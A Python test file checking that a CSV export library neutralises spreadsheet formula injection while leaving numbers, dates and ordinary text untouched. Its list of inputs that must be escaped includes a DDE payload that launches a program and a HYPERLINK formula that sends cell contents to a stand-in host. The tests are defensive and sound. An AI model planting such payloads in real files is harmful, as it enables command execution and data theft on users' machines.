"""CSV that a spreadsheet may open: no text in it is run, no number is changed."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pdp.tables import Writers, safe_text, spreadsheet_safe

RUN = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "  =1", "\0=1", "＝1", "＋1", "－1+1", "＠x", "-", "+", "=",
       '=HYPERLINK("http://x?"&A1)', "=cmd|' /C calc'!A0", "-2+3+cmd|x", "+49 170", "--1", "-1,5,5"]  # fmt: skip
KEPT = [
    "",
    "-5",
    "-5.2",
    "+1e3",
    "-.5",
    "-1,5",
    "1-2",
    "a=1",
    "2026-01-01",
    "x@y",
    "'",
    "-0",
    "+0.0e-7",
    "ambiguous_local_time",
]


@pytest.mark.parametrize("text", RUN)
def test_what_would_be_run_is_led_by_an_apostrophe(text: str) -> None:
    """And nothing else of it is changed."""
    assert safe_text(text) == f"'{text}"


@pytest.mark.parametrize("text", KEPT)
def test_other_texts_and_numbers_stay(text: str) -> None:
    """Negative and signed numbers, dates, signs within a text."""
    assert safe_text(text) == text


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_no_number_is_changed(number: float) -> None:
    """However it is written."""
    for text in (str(number), f"{number:+}", f"{number:e}"):
        assert safe_text(text) == text


@given(st.text())
def test_nothing_that_starts_like_a_formula_passes(text: str) -> None:
    """The first sign is harmless, or all is a number."""
    safe = safe_text(text)
    assert safe.removeprefix("'") == text or safe == text
    assert not safe.lstrip(" ").startswith(("=", "@", "\t", "\r")) and (
        safe[:1] not in ("+", "-") or float(safe.replace(",", ".")) < 1e400
    )


def test_every_csv_output_is_written_so(tmp_path: Path) -> None:
    """The engine's writer sees to it, in columns of text only; the Parquet form keeps the text as it is."""
    table = pa.table(
        {
            "n": pa.array([-1.5, None, 2.0]), "i": pa.array([-1, 2, None]), "t": pa.array(["=1", None, "a"]),
            "d": pa.array(["-x", "b", "-x"]).dictionary_encode(),
        }
    )  # fmt: skip
    writers = Writers("merge", {"t": (tmp_path / "t.parquet", "parquet"), "t.csv": (tmp_path / "t.csv", "csv")})
    for part in (table.slice(0, 1), table.slice(1)):
        writers.write("t", part)
    writers.close()
    rows = list(csv.reader((tmp_path / "t.csv").read_text().splitlines()))
    assert rows == [["n", "i", "t", "d"], ["-1.5", "-1", "'=1", "'-x"], ["", "2", "", "b"], ["2", "", "a", "'-x"]]
    assert spreadsheet_safe(table.select(["n", "i"])).equals(table.select(["n", "i"]))
